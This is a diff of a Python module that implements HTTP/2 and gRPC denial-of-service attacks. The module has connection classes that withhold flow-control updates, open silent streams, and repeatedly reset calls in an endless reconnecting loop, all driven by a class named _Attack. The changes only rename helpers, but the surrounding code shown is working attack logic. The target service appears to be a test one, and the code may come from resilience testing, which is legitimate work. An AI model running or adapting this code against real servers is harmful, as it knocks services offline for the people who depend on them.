@@ -54,7 +54,7 @@ class Unread(Connection):
         """Drops it, and does not widen the window."""
 
 
-class _Silent(Connection):
+class Silent(Connection):
     """Begins calls and sends no request."""
 
     def begin(self) -> None:
@@ -64,7 +64,7 @@ class _Silent(Connection):
         self._out.append(http2.frame(http2.HEADERS, http2.END_HEADERS, number, self._headers))
 
 
-class _Resetting(Connection):
+class Resetting(Connection):
     """Begins calls and resets each at once."""
 
     def begin(self, message: bytes) -> None:
@@ -129,7 +129,8 @@ def _single() -> bytes:
     return http2.grpc_message(request.SerializeToString())
 
 
-async def _connect(made: _C, address: str) -> _C:
+async def connect(made: _C, address: str) -> _C:
+    """Connects from the attacker's address; returns the connection."""
     host, _, port = address.rpartition(":")
     loop = asyncio.get_running_loop()
     await loop.create_connection(lambda: made, host, int(port), local_addr=(SOURCE, 0))
@@ -167,7 +168,7 @@ class _Attack:
         self.ended[status] = self.ended.get(status, 0) + 1
 
     async def _open(self, make: Callable[[], Connection]) -> list[Connection]:
-        return [await _connect(make(), self._address) for _ in range(self._connections)]
+        return [await connect(make(), self._address) for _ in range(self._connections)]
 
     async def _unread(self, method: str, message: bytes, under_way: Callable[[], None]) -> None:
         opened = await self._open(lambda: Unread(*self._arguments(method, 1)))
@@ -187,7 +188,7 @@ class _Attack:
 
     async def _silent_streams(self, under_way: Callable[[], None]) -> None:
         opened = [
-            await _connect(_Silent(*self._arguments("Recommend", 65_536)), self._address)
+            await connect(Silent(*self._arguments("Recommend", 65_536)), self._address)
             for _ in range(self._connections)
         ]
         for connection in opened:
@@ -199,12 +200,12 @@ class _Attack:
 
     async def _resets(self, under_way: Callable[[], None]) -> None:
         message = _single()
-        opened: list[_Resetting] = []
+        opened: list[Resetting] = []
         while True:
             opened = [connection for connection in opened if not connection.lost]
             while len(opened) < self._connections:
-                made = _Resetting(*self._arguments("Recommend", 65_536))
-                opened.append(await _connect(made, self._address))
+                made = Resetting(*self._arguments("Recommend", 65_536))
+                opened.append(await connect(made, self._address))
             for connection in opened:
                 for _ in range(_RESETS_AT_ONCE):
                     connection.begin(message)
